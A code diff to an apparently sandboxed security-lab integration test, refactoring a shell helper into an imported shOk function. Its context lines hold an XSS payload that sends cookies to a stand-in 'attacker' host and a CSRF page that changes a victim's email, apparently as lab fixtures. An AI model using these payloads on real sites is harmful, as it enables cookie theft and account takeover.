@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { downLab, upLab } from "../../../orchestrator/src/labs/lifecycle.ts";
 import type { Engine } from "../../../orchestrator/src/runtime/engine.ts";
 import { sh, testEngine, uniqueLabId } from "../engine.ts";
-import { expectChecks, libraryTopology } from "./solutions.ts";
+import { expectChecks, libraryTopology, shOk } from "./solutions.ts";
 
 let engine: Engine;
 const lab = uniqueLabId("it-labsb-web");
@@ -20,11 +20,7 @@ const XSS = `<script>new Image().src = "http://attacker/steal?c=" + encodeURICom
  */
 const CSRF_PAGE = `<script>location = "http://web/app/email?email=mallory@attacker.lab"</script>`;
 
-async function run(node: string, script: string): Promise<string> {
-  const result = await sh(engine, lab, node, script);
-  expect(result.exitCode, `${node}: ${script}\n${result.stdout}`).toBe(0);
-  return result.stdout.trim();
-}
+const run = (node: string, script: string) => shOk(engine, lab, node, script);
 
 /** Runs `condition` (a shell test) on `node` every second until it holds, for up to `seconds`. */
 async function waitFor(node: string, condition: string, seconds: number): Promise<void> {
